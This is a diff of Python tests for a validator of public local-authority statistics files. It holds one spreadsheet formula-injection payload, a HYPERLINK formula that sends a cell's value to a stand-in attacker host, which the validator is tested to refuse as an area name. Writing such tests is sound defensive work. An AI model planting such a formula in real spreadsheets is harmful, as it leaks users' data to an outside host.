@@ -312,19 +312,21 @@ def test_a_name_with_markup_is_escaped_in_html_even_past_the_checks() -> None:
 
 
 def test_a_formula_as_an_area_name_in_both_files_is_refused(attempt: Attempt, public: Path) -> None:
-    """Both files agree on the name, so the code lookup holds it: still not a name."""
+    """Every file agrees on the name, so the code lookup holds it: still not a name."""
     formula = '=HYPERLINK("https://evil.example/?x="&B2,"Camden")'
     rows_of: dict[str, list[int]] = {}
     change = renamed(formula, rows_of)
-    edit(public, B1, change(B1))
-    edit(public, POP, change(POP))
+    names = [spec.path for spec in PUBLIC_FILES]
+    for name in names:
+        edit(public, name, change(name))
     message = (
         f"column la_name: {formula!r} is not an area name (letters, spaces and "
         ", . ' \u2019 - & ( ) only)"
     )
-    assert attempt(public) == [
-        f"{name}, row {i + 1}, {message}" for name in (B1, POP) for i in rows_of[name]
-    ]
+    assert sorted(attempt(public)) == sorted(
+        f"{name}, row {i + 1}, {message}" for name in names for i in rows_of[name]
+    )
+    assert len(rows_of[B1]) == 11  # 2013 to 2023
 
 
 def test_impossible_counts_and_rates(attempt: Attempt, public: Path) -> None:
@@ -524,6 +526,5 @@ def test_a_missing_national_year_names_the_file(
         lambda rows: rows.pop(find(rows, time_period="2015", geographic_level="National")),
     )
     assert late_attempt(project[0], public, capsys, monkeypatch) == [
-        f"{B1}, column time_period: no National row for 2015: the national series of the "
-        "publication needs every year from 2013 to 2018"
+        f"{B1}, column time_period: expected one national row for 2015, found 0"
     ]
